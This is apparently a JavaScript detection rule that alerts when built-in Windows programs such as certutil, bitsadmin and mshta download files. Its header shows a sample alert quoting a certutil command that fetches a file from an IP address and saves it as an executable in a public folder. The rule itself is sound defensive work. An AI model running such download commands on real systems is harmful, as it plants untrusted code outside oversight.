// ringside: title="Windows' own program fetches a file" technique=T1105,T1197,T1140 level=high tags=windows,command-and-control
//
// certutil, bitsadmin, mshta and their like are told an address. They come with Windows, so no new program has to be brought, and they were made
// for something else.
//
//     > ringside run lolbin-download.js -o line
//     time=2026-05-05T09:01:33.470000000Z level=high rule=lolbin-download message="CORP\\ada: certutil.exe -urlcache -split -f http://198.51.100.23/b.txt C:\\Users\\Public\\b.exe"
//
// Known false positives: certutil -URL and -verify, which administrators use, are left out; software that updates by bitsadmin.
// References: https://attack.mitre.org/techniques/T1105/ https://lolbas-project.github.io/#/download

import { shorten } from "ringside:text";

const address = /\b(https?|ftp):\/\/|\\\\[\w.-]+@(ssl|\d+)\\/i;
const fromShare = /\s\\\\[\w.-]+\\\S+.*\s[A-Z]:\\\S*\\?(temp|tmp|public|programdata)\\/i;

/** @type {[string[], RegExp][]} */
const commands = [
    [["certutil"], /[-/](urlcache|verifyctl)\b.*\bhttps?:/i],
    [["certutil"], /[-/]decode(hex)?\b/i],
    [["bitsadmin"], /\/(transfer|addfile|setnotifycmdline)\b/i],
    [["mshta", "desktopimgdownldr", "ieexec", "presentationhost", "hh", "msxsl"], address],
    [["esentutl", "expand", "extrac32", "findstr", "makecab"], address],
    [["esentutl", "expand", "extrac32", "findstr", "makecab"], fromShare],
];

for (const [programs, command] of commands) {
    procs.where(os == "windows" && name.in(programs) && cmdline.matches(command)).alert((e) => `${e.user}: ${shorten(e.cmdline)}`);
}
